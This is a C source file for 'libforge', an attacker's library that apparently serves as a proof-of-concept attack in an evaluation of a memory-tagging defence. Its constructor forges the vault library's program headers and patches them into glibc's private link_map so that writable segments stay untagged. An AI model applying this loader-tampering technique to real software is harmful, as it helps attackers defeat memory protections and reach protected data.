/* libforge: a library of the attacker's that the attack program links, so
 * that its constructor runs before libprotect attaches the vault.  It points
 * the vault's link_map (the loader's record, the application's memory) at a
 * copy of its program headers in which no segment is writable: libprotect
 * tags the writable segments, so the vault's data would stay untagged. */
#define _GNU_SOURCE
#include <dlfcn.h>
#include <link.h>
#include <string.h>

static ElfW(Phdr) forged[64];
static const ElfW(Phdr) *real_phdr;
static int real_n;
static ElfW(Addr) vault_base;
static int forged_it;

static int find_vault(struct dl_phdr_info *info, size_t size, void *arg)
{
    if (info->dlpi_addr == vault_base) {
        real_phdr = info->dlpi_phdr;
        real_n = info->dlpi_phnum;
    }
    return 0;
}

__attribute__((constructor)) static void forge(void)
{
    struct link_map *m = NULL;
    void *h = dlopen("libvault.so", RTLD_NOLOAD | RTLD_LAZY);
    if (!h || dlinfo(h, RTLD_DI_LINKMAP, &m) != 0)
        return;
    vault_base = m->l_addr;
    dl_iterate_phdr(find_vault, NULL);
    if (!real_phdr || real_n > 64)
        return;
    memcpy(forged, real_phdr, (size_t)real_n * sizeof *forged);
    for (int i = 0; i < real_n; i++)
        if (forged[i].p_type == PT_LOAD)
            forged[i].p_flags &= ~PF_W;
    /* l_phdr is in glibc's private part of the link_map: found by its value. */
    for (const ElfW(Phdr) **p = (const ElfW(Phdr) **)m; p < (const ElfW(Phdr) **)m + 256; p++)
        if (*p == real_phdr) {
            *p = forged;
            forged_it = 1;
            break;
        }
}

int forge_layout_done(void)
{
    return forged_it;
}
